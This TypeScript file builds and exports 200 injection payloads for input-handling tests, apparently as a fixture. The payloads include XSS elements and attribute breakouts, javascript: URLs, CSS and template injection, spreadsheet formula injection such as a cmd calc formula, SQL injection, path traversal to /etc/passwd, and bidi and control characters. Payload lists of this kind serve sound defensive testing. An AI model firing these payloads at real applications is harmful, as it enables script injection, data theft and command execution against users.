// Two hundred texts that want to be more than text: markup, code, addresses, styles, formulas, templates, signs that turn others around.

/** The id of every element that one of them would make, and the host of every address it would ask. */
export const MARK = 'gm7';

const CALL = `alert('${MARK}')`;
const HOST = `//${MARK}.invalid/`;

const elements = [
  `<img id=${MARK} src=x onerror=${CALL}>`,
  `<script id=${MARK}>${CALL}</script>`,
  `<svg id=${MARK} onload=${CALL}>`,
  `<b id=${MARK}>`,
  `<iframe id=${MARK} srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<details id=${MARK} open ontoggle=${CALL}>x</details>`,
  `<input id=${MARK} autofocus onfocus=${CALL}>`,
  `<a id=${MARK} href="javascript:${CALL}">x</a>`,
  `<iframe id=${MARK} src="javascript:${CALL}">`,
  `<math id=${MARK}><a xlink:href="javascript:${CALL}">x</a></math>`,
  `<svg id=${MARK}><script>${CALL}</script></svg>`,
  `<svg id=${MARK}><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg id=${MARK}><foreignObject><img src=x onerror=${CALL}></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img id=${MARK} src=x onerror=${CALL}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img id=${MARK} src=x onerror=${CALL}>`,
  `<noscript><p title="</noscript><img id=${MARK} src=x onerror=${CALL}>">`,
  `<template><img id=${MARK} src=x onerror=${CALL}></template>`,
  `<video id=${MARK} src=x onerror=${CALL}></video>`,
  `<audio id=${MARK} src=${HOST}a autoplay></audio>`,
  `<object id=${MARK} data="data:text/html,<script>${CALL}</script>"></object>`,
  `<embed id=${MARK} src="${HOST}e">`,
  `<link id=${MARK} rel=stylesheet href=${HOST}c>`,
  `<style id=${MARK}>*{display:none}</style>`,
  `<base id=${MARK} href=${HOST}>`,
  `<meta id=${MARK} http-equiv=refresh content="0;url=${HOST}">`,
  `<form id=${MARK} action=${HOST}><button>x</button></form>`,
  `<button id=${MARK} formaction="javascript:${CALL}">x</button>`,
  `<div id=${MARK} style="position:fixed;inset:0;background:url(${HOST}s)">x</div>`,
  `<dialog id=${MARK} open>x</dialog>`,
  `<x-y id=${MARK} tabindex=1 autofocus onfocus=${CALL}>x</x-y>`,
  `<IMG ID=${MARK} SRC=x OnErRoR=${CALL}>`,
  `<img/id=${MARK}/src=x/onerror=${CALL}>`,
  `<img id=${MARK} src=x\nonerror\n=\n${CALL}>`,
  `<<img id=${MARK} src=x onerror=${CALL}>`,
  `<img id=${MARK} srcset="${HOST}i 2x">`,
];

/** What would end the place that a text stands in, so that an element begins behind it. */
const endings = [
  ...['">', "'>", '`>', '</textarea>', '</title>', '</script>', '</style>', '-->', ']]>'],
  ...['</select></option>', '</bdi></p>', '\\"});', '"/>'],
];
const brokenOut = endings.flatMap((ending) => elements.slice(0, 4).map((element) => `${ending}${element}`));

const attributes = ['"', "'", '`', '&quot;', '" x="', "' '"].flatMap((quote) => [
  `${quote} id=${MARK} onmouseover=${CALL} x=`,
  `${quote} autofocus onfocus=${CALL} id=${MARK} `,
]);

const addresses = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `javascript&colon;${CALL}`,
  `javascript://%0A${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${CALL}>`,
  `vbscript:msgbox("${MARK}")`,
  `https:${HOST}`,
  HOST,
  `\\\\${MARK}.invalid\\x`,
  `file:///etc/passwd#${MARK}`,
  `/faelle/../api/sign-out?${MARK}`,
  `#/${MARK}`,
  `mailto:${MARK}@x?bcc=y@z&body=1`,
  `tel:*21*${MARK}#`,
];

const styles = [
  `}*{background:url(${HOST}c)}`,
  `;background:url(${HOST}c);`,
  `@import '${HOST}c';`,
  `expression(${CALL})`,
  `red;}</style><b id=${MARK}>`,
  `\\3c b id=${MARK}\\3e`,
  `/*${MARK}*/:root{--x:url(${HOST})}`,
];

const encoded = [
  `&lt;img id=${MARK} src=x onerror=${CALL}&gt;`,
  `&#60;img id=${MARK} src=x onerror=${CALL}&#62;`,
  `&#x3C;b id=${MARK}&#x3E;`,
  `&amp;lt;b id=${MARK}&amp;gt;`,
  `%3Cimg%20id=${MARK}%20src=x%20onerror=${CALL}%3E`,
  `\\u003cb id=${MARK}\\u003e`,
  `\\x3cb id=${MARK}\\x3e`,
  `+ADw-b id=${MARK}+AD4-`,
  `\uFF1Cb id=${MARK}\uFF1E`,
  `<\u200Bb id=${MARK}>`,
  '&nbsp;&copy;&#0;&#xD800;&',
];

const beginnings = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
const formulas = beginnings.flatMap((beginning) => [
  `${beginning}1+1`,
  `${beginning}cmd|'/C calc'!A0`,
  `${beginning}HYPERLINK("https:${HOST}";"x")`,
]);

const cells = [`";=1+1;"`, `x";"=1+1`, `x\r\n=1+1`, `'=1+1`, `"=1+1"`, `;=1+1`];

const templates = [
  ...['{{name}}', '{{count}}', '{{- name}}', '{{name, uppercase}}', '$t(app:product)', '$t(review:title)'],
  ...[`$t(app:cancel, {"name":"${MARK}"})`, '$t({{name}})', '{{$t(app:cancel)}}', '<0>x</0>', '<1/>'],
  ...[`{{constructor.constructor("${CALL}")()}}`, `\${${CALL}}`, `#{${CALL}}`, '<%= 7*7 %>', '{% raw %}'],
  ...['[[7*7]]', '%s%n%d', '{0}', '__name__', '{{{name}}}', '{count, plural, other {x}}'],
];

const signs = [
  `\u202E<img id=${MARK} src=x onerror=${CALL}>`,
  `\u202Egnp.exe`,
  `\u2066\u2067\u2068x`,
  `\u2069\u2069\u202C\u202Cx`,
  `\u200F\u061C\u200Ex`,
  `\u0645\u0631\u062D\u0628\u0627 <b id=${MARK}> \u0639\u0644\u064A\u0643\u0645`,
  `x\u2028${CALL}\u2029x`,
  `\u200B\u200C\u200D\u2060\uFEFFx`,
  `\uFEFF=1+1`,
  `\u0001\u0002\u0008\u001B[31mx`,
  `\u007F\u0085\u009Fx`,
  `\uFFFE\uFFFF\uFFFDx`,
  `x${'\u0301'.repeat(60)}`,
  `\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u{1F3F4}`,
  `\u{E0041}\u{E0042}x`,
  `\r\n\r\n\t\u000B\u000Cx`,
  `x\rBEGIN:VALARM\rACTION:DISPLAY`,
];

const long = [
  `${'A'.repeat(9_000)}<img id=${MARK} src=x onerror=${CALL}>`,
  '<b>'.repeat(600),
  '&amp;'.repeat(700),
  '\uFDFD'.repeat(500),
  `${'<div>'.repeat(300)}<b id=${MARK}>`,
];

const names = [
  ...['__proto__', 'constructor', 'toString', 'null', 'undefined', 'NaN', '[object Object]', 'true', '0'],
  ...[`'; drop table record; --`, `../../etc/passwd`, `%00`, '\\', `"'\``],
];

const short = ['<b>', '=1', '-1', '@x', '+1', '<!--', '&lt', '</p>'];

const groups = [
  ...[elements, brokenOut, formulas, templates, addresses, signs, encoded, attributes],
  ...[styles, cells, long, names, short],
];

/** One of each group after the other, so that the first forty are a sample of all. */
const inTurn = (lists: readonly (readonly string[])[]): readonly string[] => {
  const longest = Math.max(...lists.map(({ length }) => length));
  return Array.from({ length: longest }, (_, index) => lists.flatMap((list) => list[index] ?? [])).flat();
};

/** All two hundred. */
export const payloads: readonly string[] = [...new Set(inTurn(groups))].slice(0, 200);
